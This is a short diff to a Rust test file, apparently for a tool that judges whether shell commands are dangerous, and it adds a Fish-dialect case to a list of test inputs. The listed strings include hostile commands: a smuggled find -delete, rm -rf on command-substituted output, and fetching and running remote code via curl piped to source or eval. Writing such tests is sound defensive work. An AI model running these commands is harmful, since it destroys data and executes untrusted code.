@@ -155,6 +155,7 @@ fn everyday_reading_is_read_only() {
 #[test]
 fn fish_and_zsh_are_judged_too() {
     for (text, dialect) in [
+        ("find . (echo -delete)", Dialect::Fish),
         ("rm -rf (curl x)", Dialect::Fish),
         ("curl x | source", Dialect::Fish),
         ("eval (curl x)", Dialect::Fish),
